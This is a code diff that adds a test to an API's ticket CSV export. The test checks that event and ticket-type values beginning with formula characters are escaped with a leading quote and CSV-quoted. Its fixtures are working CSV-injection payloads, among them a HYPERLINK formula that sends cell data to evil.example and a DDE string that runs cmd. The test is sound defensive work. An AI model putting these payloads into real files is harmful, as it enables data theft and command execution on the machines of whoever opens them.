@@ -47,6 +47,24 @@ describe('GET /api/batches/:id/tickets.csv', () => {
     }
   })
 
+  test('an event or ticket type that a spreadsheet would run as a formula is written as text: a leading quote, and quoted', async (t) => {
+    const { api } = await buildTestApp(t)
+    const formulas = [
+      ['=HYPERLINK("https://evil.example/?t="&C2,"Click for refund")', "+1+cmd|' /C calc'!A0"],
+      ['-2+3', '@SUM(A1:A9)'],
+      ['\t=1+1', '\r=1+1'],
+    ] as const
+    for (const [event, ticketType] of formulas) {
+      const batch = await completedBatch(api, { quantity: 3, event, ticketType })
+      const response = await download(api, `/api/batches/${batch.id}/tickets.csv`)
+      const [, ...rows] = parseCsv(response.body)
+      assert.equal(rows.length, 3)
+      for (const row of rows) assert.deepEqual(row.slice(3, 5), [`'${event}`, `'${ticketType}`], JSON.stringify(event))
+      // Quoted: the quote that starts the cell is inside the quotes, so a reader cannot drop it with them.
+      assert.ok(response.body.includes(`"'${event.replaceAll('"', '""')}"`), response.body.slice(0, 300))
+    }
+  })
+
   test('a batch that is not completed is 409 BATCH_NOT_COMPLETED, for the CSV, the PDF and its parts', async (t) => {
     const { api } = await buildTestApp(t)
     const open = await makeTestBatch({ quantity: 100 })
